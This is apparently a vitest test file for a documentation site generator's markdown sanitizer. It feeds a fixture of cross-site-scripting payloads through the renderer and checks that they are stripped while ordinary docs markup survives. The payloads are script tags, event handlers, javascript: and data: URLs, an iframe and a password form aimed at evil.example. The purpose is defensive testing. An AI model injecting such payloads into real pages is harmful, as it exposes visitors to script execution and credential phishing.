import type { Element } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { afterAll, describe, expect, it } from 'vitest';
import { makeSite } from '../support/site.js';
import { renderOne } from '../support/render.js';

const site = makeSite({ 'static/content/evil.html': '<b>bold</b><script>alert("readfile")</script><img src="x.png" onerror="alert(2)">\n' });
afterAll(() => site.cleanup());

const HOSTILE = `---
title: P
---
<script>alert(1)</script>

<img src="x.png" onerror="alert(1)" alt="pic">

[click](javascript:alert(1)) and <a href="JaVaScRiPt:alert(1)">raw</a> and <a href="data:text/html,<script>alert(1)</script>">data</a>

<div style="position:fixed;inset:0" onclick="alert(1)" onmouseover="alert(1)">covered</div>

<iframe src="https://evil.example/"></iframe>

<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>

<style>body { display: none }</style>

<form action="https://evil.example/"><input name="password"></form>

<object data="x.swf"></object><embed src="x.swf">

{{< readfile file="static/content/evil.html" >}}
`;

const LEGIT = `---
title: P
---
## Setup {#custom-id}

{{% notice tip %}}
A **tip** with [a link](../other/) and [mail](mailto:docs@example.com).
{{% /notice %}}

\`\`\`yaml {hl_lines=[1]}
key: value
\`\`\`

| a | b |
|:--|--:|
| 1 | 2 |

<details><summary>More</summary>

Hidden text.

</details>

- [x] done
- [ ] to do

Footnote[^1]. <a id="raw-anchor"></a><kbd>Ctrl</kbd> <mark>marked</mark> <abbr title="HyperText">HTML</abbr>

<figure><img src="https://example.com/a.png" alt="A"><figcaption>Caption</figcaption></figure>

{{< tabs >}}
{{% tab title="One" %}}First{{% /tab %}}
{{% tab title="Two" %}}Second{{% /tab %}}
{{< /tabs >}}

[^1]: The note.
`;

async function render(text: string, sanitize: boolean) {
  return renderOne(text, { root: site.dir, markdown: { sanitize }, pages: ['/other/'] });
}

/** Every element with its attributes, for assertions that read like the HTML. */
function elements(html: string): Element[] {
  const out: Element[] = [];
  visit(fromHtml(html, { fragment: true }), 'element', (node) => {
    out.push(node);
  });
  return out;
}

describe('markdown.sanitize removes what runs, from raw HTML and readfile output alike', () => {
  it('no scripts, handlers, styles, frames, forms, SVG or script URLs are left', async () => {
    const page = await render(HOSTILE, true);
    const els = elements(page.html);
    expect(els.map((e) => e.tagName).filter((t) => ['script', 'style', 'iframe', 'svg', 'circle', 'form', 'object', 'embed'].includes(t))).toEqual([]);
    // As on GitHub, the only input kept is a disabled checkbox (task lists).
    expect(els.filter((e) => e.tagName === 'input').map((e) => e.properties)).toEqual([{ name: 'password', disabled: true, type: 'checkbox' }]);
    for (const el of els) {
      for (const [key, value] of Object.entries(el.properties)) {
        expect(key).not.toMatch(/^on/i);
        expect(key).not.toBe('style');
        expect(String(value)).not.toMatch(/^\s*(javascript|data):/i);
      }
    }
    expect(page.html).not.toMatch(/alert/);
    expect(page.html).toContain('<img src="x.png" alt="pic">');
    expect(page.html).toContain('<div>covered</div>');
    expect(page.html).toContain('<b>bold</b>');
    expect(page.html).toContain('<a>click</a>');
  });

  it('without the switch, authors’ raw HTML is kept as written (it is their docs)', async () => {
    const page = await render(HOSTILE, false);
    expect(page.html).toContain('<script>alert(1)</script>');
    expect(page.html).toContain('onerror="alert(1)"');
  });

  it('keeps what docs need: ids, callouts, highlighted code, tables, details, task lists, footnotes, tabs, figures', async () => {
    const plain = await render(LEGIT, false);
    const clean = await render(LEGIT, true);
    expect(clean.diagnostics).toEqual([]);
    expect(clean.html).toBe(plain.html);
    expect(clean.html).toContain('<h2 id="custom-id">');
    expect(clean.html).toContain('<aside class="notice notice-tip" role="note">');
    expect(clean.html).toMatch(/<div class="highlight" data-lang="yaml"><pre class="shiki"[^>]*><code class="language-yaml" data-lang="yaml"><span class="line highlighted">/);
    expect(clean.html).toContain('role="tablist"');
    expect(clean.html).toContain('<a id="raw-anchor"></a>');
    expect(clean.html).toContain('<input type="checkbox" checked disabled>');
  });
});
